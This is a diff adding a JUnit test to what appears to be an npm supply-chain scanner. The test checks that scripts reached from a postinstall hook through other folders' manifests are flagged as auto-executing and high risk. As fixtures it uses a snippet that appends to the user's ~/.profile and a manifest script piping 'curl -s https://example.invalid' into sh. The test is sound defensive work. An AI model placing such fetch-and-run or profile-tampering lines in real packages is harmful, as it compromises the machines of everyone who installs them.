@@ -633,6 +633,34 @@ class NpmScanTest {
     }
 
     @Test
+    void aScriptOfAnotherManifestAnInstallScriptRunsByFolderRunsAtInstall() throws Exception {
+        // npm --prefix tools run setup, cd hooks && npm run prep: the named script of that folder's package.json runs
+        String scripts = ",\n  \"scripts\": {\"postinstall\": \"npm --prefix tools run setup && cd hooks/lib && npm run prep\","
+                + " \"setup\": \"node root-setup.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.4", scripts),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "root-setup.js", "0;\n",
+                "tools/package.json", "{\"private\": true, \"scripts\": {\"setup\": \"node s.js\", \"lint\": \"node l.js\"}}\n",
+                "tools/s.js", "0;\n", "tools/l.js", "0;\n",
+                "hooks/package.json", "{\"scripts\": {\"prep\": \"node lib/p.js\"}}\n", "hooks/lib/p.js", "0;\n");
+        String payload = "require('fs').appendFileSync(require('os').homedir() + '/.profile', 'x');\n";
+        ArtifactReport a = publishAndScan(tree, "4.8.4", with(tree, "tools/s.js", payload, "hooks/lib/p.js", payload,
+                "tools/l.js", "1;\n"));
+        for (String p : List.of("tools/s.js", "hooks/lib/p.js")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
+            assertTrue(f.highRisk(), p);
+        }
+        assertFalse(row(a, "package/tools/l.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+        // the folder's manifest itself: a script changed there at publish runs at install
+        ArtifactReport b = publishAndScan(tree, "4.8.5", with(tree, "tools/package.json",
+                "{\"private\": true, \"scripts\": {\"setup\": \"curl -s https://example.invalid | sh\"}}\n"));
+        FileDivergence manifest = row(b, "package/tools/package.json");
+        assertTrue(manifest.riskFlags().contains(RiskFlag.AUTO_EXEC), manifest.toString());
+        assertEquals(Verdict.HIGH_RISK, b.verdict());
+    }
+
+    @Test
     void aScriptAnInstallScriptRunsByNameChangedAtPublishIsAnInstallScript() throws Exception {
         String src = ",\n  \"scripts\": {\"postinstall\": \"npm run setup\", \"setup\": \"node setup.js\","
                 + " \"lint\": \"eslint .\"}";
